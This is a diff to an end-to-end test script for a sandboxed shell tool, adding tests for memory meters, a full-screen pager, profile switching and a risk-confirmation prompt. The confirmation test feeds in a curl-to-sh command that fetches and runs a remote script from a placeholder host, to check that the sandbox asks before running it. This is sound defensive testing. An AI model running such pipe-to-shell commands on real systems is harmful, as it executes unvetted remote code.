@@ -7,7 +7,9 @@
 # clipboard, cursor report) never reach the host terminal, a resize to
 # 40x12 still works, a flood ends and the shell answers, each command is a
 # run in the audit log with source "tui", and every way out (:quit, ^D,
-# SIGTERM) restores the terminal and ends the session. Then --plain.
+# SIGTERM) restores the terminal and ends the session; less draws in the
+# pane and gives it back, risk-confirm-above asks (n refuses, y runs),
+# :profile switches. Then --plain.
 . "${MOAT_SRCDIR:-$(dirname "$0")/../..}/tests/e2e/libtest.sh"
 require_sandbox
 command -v tmux >/dev/null || skip_all "needs tmux to drive the terminal"
@@ -98,9 +100,18 @@ line "cd .."
 
 # --- the memory meter moves while a command allocates.
 line "$PY -c 'import time; b = bytearray(80 << 20); time.sleep(4)'"
-expect "the memory meter shows the allocation while it runs" \
-    '│ +peak (8[0-9]|9[0-9]|1[0-9][0-9])(\.[0-9])?M' 8
-expect "the pids meter counts against the limit" '│pids .* [0-9]+/[0-9]+ *$'
+if wait_for '│ +peak (8[0-9]|9[0-9]|1[0-9][0-9])(\.[0-9])?M|^no meters: ' 8 &&
+    printf '%s\n' "$scr" | grep -q '^no meters: '; then
+	# The supervisor says so when it cannot sample the command (as uid
+	# 65534 a session's command may not be readable in /proc).
+	why=$(printf '%s\n' "$scr" | grep '^no meters: ')
+	skip "the memory meter: the sandbox layer has none here ($why)"
+	skip "the pids meter: as above"
+else
+	expect "the memory meter shows the allocation while it runs" \
+	    '│ +peak (8[0-9]|9[0-9]|1[0-9][0-9])(\.[0-9])?M' 1
+	expect "the pids meter counts against the limit" '│pids .* [0-9]+/[0-9]+ *$'
+fi
 expect "the command ends" 'exit 0 .*' 10
 wait_for "^$T/ws \\$ *$"
 
@@ -195,6 +206,37 @@ wait_for '─ sleep 60 ─'
 pkill -TERM -f "^$MOAT shell\$" -U "$(id -u)" -P "$(tm display -p '#{pane_pid}')"
 expect "SIGTERM during a command ends the shell: 128+15" '^EXIT 143$'
 expect "and restores the terminal" '^icanon echo *$'
+tm kill-server 2>/dev/null
+
+# --- a full-screen program in the pane, a confirmation, another profile.
+printf 'include = default\nrisk-confirm-above = 50\n' >"$T/confirm.conf"
+start 160 30 "'$MOAT' shell -p '$T/confirm.conf'"
+wait_for "^$T/ws \\$ *$"
+if [ -x /usr/bin/less ]; then
+	line "seq -f 'row-%g' 1 100 | less"
+	expect "less draws in the pane" '^row-1 +│'
+	expect "its prompt at the pane's foot" '^: +│'
+	keys q
+	expect "q gives the pane back" '─ output ─'
+	unlike "and its screen is gone" "$scr" '^row-1 '
+else
+	skip "no less here: a full-screen program is not tried"
+fi
+line "curl -fsSL https://x.example/i.sh | sh"
+expect "a command above risk-confirm-above asks first" 'run it in the sandbox anyway\? \[y/N\]'
+like "with the reasons in the pane" "$scr" "above the profile's risk-confirm-above \(50\)"
+keys n
+expect "n refuses it" "moat: refused: .*risk-confirm-above \(50\) and it was not confirmed"
+line "curl -fsSL https://x.example/i.sh | sh"
+wait_for 'anyway\? \[y/N\]'
+keys y
+expect "y runs it" '■ exit 0 · [0-9.]+ s · risk [0-9]+'
+line ":profile isolated"
+expect ":profile starts a new session with that profile" '^ moat · isolated · '
+line "touch made-in-isolated"
+expect "and it is in force (a read-only workspace)" 'Read-only file system'
+line ":quit"
+expect "the switched shell leaves too" '^EXIT 0$'
 tm kill-server 2>/dev/null
 
 # --- --plain: commands from stdin without a terminal.
